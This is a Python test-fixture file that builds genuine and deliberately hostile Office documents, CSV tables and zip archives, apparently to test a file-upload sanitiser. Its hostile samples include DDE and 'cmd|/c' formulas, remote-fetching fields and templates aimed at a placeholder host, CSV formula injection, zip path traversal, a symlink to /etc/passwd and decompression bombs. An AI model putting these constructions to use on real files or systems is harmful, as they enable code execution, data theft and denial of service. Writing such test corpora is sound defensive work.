"""Documents, workbooks, tables and archives of drawings for tests: genuine ones, and hostile ones."""

import io
import struct
import zipfile

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment

from tests.sent_files import EVIL, OFFICE, RELS, huge_png, locked, pdf, picture, relationships

SITE, ELSEWHERE = f"https://{EVIL}.example/x", f"\\\\{EVIL}\\share\\x"
WORD = f"{OFFICE}wordprocessingml."
W = f'xmlns:w="w" xmlns:v="v" xmlns:r="{RELS}"'
BODY = (
    '<w:p><w:r><w:t>灌溉 آبپاشی</w:t></w:r></w:p><w:hyperlink r:id="r1"/><w:fldSimple w:instr=" PAGE "/>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:instrText> HYPERLINK \\l "_Toc1" </w:instrText>'
    '<w:fldChar w:fldCharType="separate"/><w:t>Chapter</w:t><w:fldChar w:fldCharType="end"/>'
    '<w:fldSimple w:instr=" =SUM(ABOVE) \\# &quot;0.00&quot; "/><w:fldSimple w:instr="ADDIN ZOTERO_ITEM {}"/>'
)
LINKED = ((f"{RELS}/hyperlink", "https://indusgrow.example/", True), (f"{RELS}/settings", "settings.xml"))


def zipped(parts, **zipping):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", **{"compression": zipfile.ZIP_DEFLATED, **zipping}) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def document(body="", *lines, parts=(), kinds=(), main=f"{WORD}document.main+xml"):
    """A document with a link, a page number and a template on someone's disk, and what is added to it."""
    types = {"word/document.xml": main, "word/settings.xml": f"{WORD}settings+xml", **dict(kinds)}
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in types.items()
    )
    png = '<Default Extension="png" ContentType="image/png"/>'
    rels = 'application/vnd.openxmlformats-package.relationships+xml"/>'
    template = relationships((f"{RELS}/attachedTemplate", f"file:///C:/{EVIL}.dotm", True))
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="t"><Default Extension="rels" ContentType="{rels}{png}'
            f"{overrides}</Types>",
            "_rels/.rels": relationships((f"{RELS}/officeDocument", "word/document.xml")),
            "word/document.xml": f"<w:document {W}>{BODY}{body}</w:document>",
            "word/_rels/document.xml.rels": relationships(*LINKED, *lines),
            "word/settings.xml": f'<w:settings {W}><w:attachedTemplate r:id="r1"/><w:zoom/></w:settings>',
            "word/_rels/settings.xml.rels": template,
            **dict(parts),
        }
    )


def field(*codes, inside="", result="1"):
    """A field whose code stands in some pieces."""
    pieces = "".join(f"<w:instrText>{code}</w:instrText>" for code in codes)
    step = '<w:fldChar w:fldCharType="{}"/>'
    begin, separate, end = (step.format(each) for each in ("begin", "separate", "end"))
    return f"{begin}{inside}{pieces}{separate}<w:t>{result}</w:t>{end}"


def workbook(change=None):
    """A workbook with formulas, a comment, a link and a chart; `change` may change its parts."""
    book = Workbook()
    sheet = book.active
    for row in range(1, 9):
        sheet.append([row, f"=WEBSERVICE(&quot;{SITE}&quot;)", "灌溉", -1.5])
    sheet["C1"].hyperlink, sheet["A1"].comment = "https://indusgrow.example/", Comment(EVIL, "x")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=8))
    sheet.add_chart(chart, "F2")
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet_xml = (
        parts["xl/worksheets/sheet1.xml"].replace(b"<v></v>", b"<v>7</v>").replace(b"<v />", b"<v>7</v>")
    )
    parts["xl/worksheets/sheet1.xml"] = sheet_xml
    if change:
        change(parts)
    return zipped(parts)


def replaced(name, old, new):
    """A change of one part of a workbook; what is replaced stands there."""

    def change(parts):
        assert old.encode() in parts[name], (name, old)
        parts[name] = parts[name].replace(old.encode(), new.encode(), 1)

    return change


GERBER = b"G04 a layer*\n%FSLAX46Y46*%\n%MOMM*%\n%ADD10C,0.1*%\nD10*\nX0Y0D02*\nX1000000Y0D01*\nM02*\n"
DRILL = b"; drilled\nM48\nMETRIC\nT1C0.8\n%\nT1\nX1.0Y1.0\nM30\n"
STEP = (
    b"ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('a pump'),'2;1');\nENDSEC;\nDATA;\n"
    b"#1=PRODUCT('pump','','',());\n"
    b"ENDSEC;\nEND-ISO-10303-21;\n"
)
BOARD = {
    "board/top.GTL": GERBER,
    "board/holes.drl": DRILL,
    "pump.step": STEP,
    "bom.csv": b"part,count\nR1,4\n",
}


def genuine_office():
    drawings = {**BOARD, "readme.txt": "灌溉".encode(), "plan.pdf": pdf(), "look.png": picture("PNG")}
    return {
        "letter.docx": document(),
        "model.xlsx": workbook(),
        "buttons.xlsx": workbook(with_relation("hyperlink", "#Sheet!A1")),
        "prices.csv": b'item,price\npump,-5\n"a, b",+92 300 1234567\n',
        "chinese.csv": "名称,价格\n水泵,5\n".encode("gb18030"),
        "windows.csv": "name;price\nپمپ;5\n".encode("utf-16"),
        "drawings.zip": zipped({**drawings, "__MACOSX/._x": b"x", ".DS_Store": b"x"}),
    }


def hostile_office():
    yield from documents()
    yield from workbooks()
    yield from tables()
    yield from archives()


def documents():
    """Documents that run, carry or fetch something."""
    for name, code in {
        "dde": f'DDEAUTO c:\\\\windows\\\\{EVIL} "/c"',
        "dde-lower": f"dde {EVIL}",
        "include": f'INCLUDETEXT "{SITE}"',
        "picture": f'INCLUDEPICTURE "{SITE}"',
        "link": f"LINK Excel.Sheet {EVIL}",
        "macro": f"MACROBUTTON {EVIL}",
        "quote": f"QUOTE {EVIL}",
        "rd": f"RD {EVIL}",
        "import": f"IMPORT {EVIL}",
        "file": f'HYPERLINK "file:///{EVIL}"',
        "share": f'HYPERLINK "{ELSEWHERE}"',
        "script": f'HYPERLINK "javascript:{EVIL}"',
        "database": f"DATABASE {EVIL}",
    }.items():
        quoted = code.replace('"', "&quot;")
        yield f"field-{name}.docx", document(field(quoted))
        yield f"simple-{name}.docx", document(f'<w:fldSimple w:instr="{quoted}"/>')
    yield "split-field.docx", document(field("D", "DEAU", f"TO {EVIL}"))
    yield (
        "open-field.docx",
        document(f'<w:fldChar w:fldCharType="begin"/><w:instrText>DDE {EVIL}</w:instrText>'),
    )
    yield "field-in-a-field.docx", document(field(f" {EVIL}", inside=field("REF a", result="DDEAUTO")))
    yield "words-in-a-field.docx", document(field("", inside=f"<w:t>DDEAUTO {EVIL}</w:t>"))
    yield (
        "code-in-a-result.docx",
        document(field("PAGE", result=f"</w:t><w:instrText>DDE {EVIL}</w:instrText><w:t>")),
    )
    for kind in ("aFChunk", "subDocument", "oleObject", "package", "control", "vbaProject", "frame", "font"):
        inside = document('<w:x r:id="r3"/>', (f"{RELS}/{kind}", "x.bin"), parts={"word/x.bin": EVIL})
        yield f"{kind}.docx", inside
        yield f"outside-{kind}.docx", document('<w:x r:id="r3"/>', (f"{RELS}/{kind}", SITE, True))
    for kind in ("image", "settings", "header", "hyperlink"):
        yield f"elsewhere-{kind}.docx", document('<w:x r:id="r3"/>', (f"{RELS}/{kind}", ELSEWHERE, True))
    yield "linked-picture.docx", document('<w:x r:link="r3"/>', (f"{RELS}/image", SITE, True))
    yield "old-picture.docx", document(f'<v:imagedata src="{SITE}"/>')
    yield "old-link.docx", document(f'<v:shape href="file:///{EVIL}"/>')
    yield "entities.docx", document(parts={"word/document.xml": f'<!DOCTYPE a SYSTEM "{SITE}"><w:document/>'})
    yield "macros.docx", document(main="application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "template.docx", document(main=f"{WORD}template.main+xml")
    yield "a-workbook.docx", workbook()
    hidden = f"<w:settings {W}><w:attachedTemplate x='><w:evil r:id=\"r1\"/>'/></w:settings>"
    yield "smuggled.docx", document(parts={"word/settings.xml": hidden})


def workbooks():
    """Workbooks that run, carry or fetch something."""
    sheet, book, chart = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/charts/chart1.xml"
    for name, formula in {
        "dde": f"cmd|'/c {EVIL}'!A0",
        "call": f'CALL("{EVIL}")',
        "image": f'IMAGE("{SITE}")',
        "register": f'REGISTER.ID("{EVIL}")',
        "outside": f"'[{EVIL}.xlsx]A'!A1",
    }.items():
        cell = f'<sheetData><row r="90"><c r="A90"><f>{formula}</f><v>1</v></c></row>'
        yield f"formula-{name}.xlsx", workbook(replaced(sheet, "<sheetData>", cell))
    rule = f"<cfRule><formula>{EVIL}()</formula></cfRule></conditionalFormatting>"
    rule = f"<conditionalFormatting sqref='A1'>{rule}"
    yield "rule.xlsx", workbook(replaced(sheet, "</worksheet>", f"{rule}</worksheet>"))
    checked = f'<dataValidations><dataValidation error="{EVIL}"/></dataValidations></worksheet>'
    yield "validation.xlsx", workbook(replaced(sheet, "</worksheet>", checked))
    named = f'<definedNames><definedName name="Auto_Open">{EVIL}!A1</definedName></definedNames></workbook>'
    yield "auto-open.xlsx", workbook(replaced(book, "</workbook>", named))
    more = f'<extLst><ext><x:f xmlns:x="x">{EVIL}</x:f></ext></extLst></worksheet>'
    yield "extension.xlsx", workbook(replaced(sheet, "</worksheet>", more))
    yield "chart-elsewhere.xlsx", workbook(replaced(chart, "<f>", f"<f>[{EVIL}.xlsx]"))
    place = f'<hyperlinks><hyperlink ref="A3" location="[{EVIL}.xlsx]A!A1"/>'
    yield "place-elsewhere.xlsx", workbook(replaced(sheet, "<hyperlinks>", place))
    yield (
        "file-link.xlsx",
        workbook(
            replaced("xl/worksheets/_rels/sheet1.xml.rels", "https://indusgrow.example/", f"file:///{EVIL}")
        ),
    )
    for kind in ("oleObject", "control", "package"):
        yield f"{kind}.xlsx", workbook(with_relation(kind))
    yield "cell-elsewhere.xlsx", workbook(with_relation("hyperlink", f"#'[{EVIL}.xlsx]A'!A1"))
    macro = ("spreadsheetml.worksheet+xml", f"spreadsheetml.{EVIL}+xml")
    yield "macro-sheet.xlsx", workbook(replaced("[Content_Types].xml", *macro))
    main = ("officedocument.spreadsheetml.sheet.main", "officedocument.spreadsheetml.template.main")
    yield "template.xlsx", workbook(replaced("[Content_Types].xml", *main))
    yield "unused-macros.xlsx", workbook(lambda parts: parts.update({"xl/vbaProject.bin": EVIL.encode()}))
    yield "a-document.xlsx", document()


def with_relation(kind, target="/xl/x.bin"):
    def change(parts):
        rels = parts["xl/worksheets/_rels/sheet1.xml.rels"]
        line = f'<Relationship Id="r9" Type="{RELS}/{kind}" Target="{target}"/></Relationships>'
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = rels.replace(b"</Relationships>", line.encode())
        sheet = parts["xl/worksheets/sheet1.xml"]
        named = f'<oleObjects><o r:id="r9" xmlns:r="{RELS}"/></oleObjects></worksheet>'
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"</worksheet>", named.encode())
        parts["xl/x.bin"] = EVIL.encode()

    return change


def tables():
    """Tables whose cells run, and what is no table."""
    for number, cell in enumerate(
        (
            f"=cmd|'/c {EVIL}'!A0",
            f"+{EVIL}()",
            f"-2+3+{EVIL}()",
            f"@SUM({EVIL})",
            f"\t={EVIL}()",
            f" ={EVIL}()",
            f"＝{EVIL}()",
            f"a;={EVIL}()",
            f"a\n={EVIL}()",
            f"'={EVIL}()",
        )
    ):
        yield f"cell-{number}.csv", f'a,b\n"{cell}",2\n'.encode()
    yield "link-file.csv", b"ID;PWXL;N;E\nC;Y1;X1;E" + EVIL.encode() + b"()\nE\n"
    yield "program.csv", b"MZ\x90\x00\x03" + EVIL.encode()
    yield "nothing.csv", b"\n \n"
    yield "a-page.csv", b"PK\x03\x04" + EVIL.encode()
    yield "zeros.csv", b"a,b\0,c\n"


def archives():
    """Archives that lead out, hide, carry or fetch something."""
    for number, name in enumerate(
        (
            "../../etc/cron.d/x.step",
            "/etc/x.step",
            "C:/x.step",
            "a\\..\\x.step",
            "x.step:evil.step",
            "con.step",
            "a/../../x.step",
            "a/./x.step",
            "a//x.step",
            "x\u202epets.step",
            "x.step ",
            f"{'a/' * 9}x.step",
            f"{'a' * 200}.step",
            "x\n.step",
        )
    ):
        yield f"name-{number}.zip", zipped({name: STEP})
    for name, content in {
        "setup.exe": b"MZ" + EVIL.encode(),
        "inner.zip": zipped(BOARD),
        "deck.pptx": b"PK\x03\x04",
        "run.bat": b"x",
        "page.html": b"<script>",
        "way.lnk": b"L\0\0\0",
        "noending": GERBER,
        "board.kicad_pcb": b"(kicad",
    }.items():
        yield f"holds-{name}.zip", zipped({**BOARD, name: content})
    for name, content in {
        "program.gtl": b"MZ" + GERBER,
        "program.step": b"MZ\0\0",
        "page.step": b"<script>",
        "cut.step": STEP[:-20],
        "program.drl": b"MZ" + DRILL,
        "locked.pdf": locked(),
        "a.pdf": picture("PNG"),
        "huge.png": huge_png(),
        "includes.gtl": GERBER.replace(b"%MO", f"%IF{EVIL}*%\n%MO".encode()),
        "program.txt": b"MZ\0",
        "refers.step": STEP.replace(b"DATA;", f"REFERENCE;\n#9=<{SITE}#a>;\nENDSEC;\nDATA;".encode()),
        "names.step": STEP.replace(b"#1=", f"#2=DOCUMENT_FILE('{EVIL}.exe','','',#1);\n#1=".encode()),
        "runs.csv": f'"={EVIL}()"\n'.encode(),
    }.items():
        yield f"inside-{name}.zip", zipped({**BOARD, name: content})
    yield "twice.zip", zipped({"a.step": STEP, "A.STEP": STEP})
    yield "empty.zip", zipped({})
    yield "only-folders.zip", zipped({"a/": b""})
    yield "many.zip", zipped({f"{number}.step": STEP for number in range(301)})
    yield "page-follows.zip", zipped(BOARD) + f"<script>{EVIL}".encode()
    yield "page-before.zip", f"<script>{EVIL}".encode() + zipped(BOARD)
    link = zipfile.ZipInfo("a.step")
    link.external_attr = 0o120777 << 16
    yield "link.zip", zipped({link: b"/etc/passwd"})
    sealed = bytearray(zipped({"a.step": STEP}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        struct.pack_into("<H", sealed, sealed.index(mark) + at, 1)
    yield "sealed.zip", bytes(sealed)
    lying = bytearray(zipped({"a.step": STEP}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", lying, lying.index(mark) + at, 10)
    yield "lying.zip", bytes(lying)


def costly_office():
    """Files that are small on disk and large once unpacked."""
    yield "bomb.zip", zipped({"a.txt": b" " * 300_000_000})
    cells = b"<c><f>A1</f><v>1</v></c>" * 700_000
    sheet = b'<worksheet xmlns="x"><sheetData>' + cells + b"</sheetData></worksheet>"
    yield "cells.xlsx", workbook(lambda parts: parts.update({"xl/worksheets/sheet1.xml": sheet}))
    yield "columns.csv", b",".join([b"=1"] * 2_600_000)
    yield (
        "notes.step.zip",
        zipped({"a.step": b"ISO-10303-21;DATA" + b"/*" * 30_000_000 + b"END-ISO-10303-21;"}),
    )
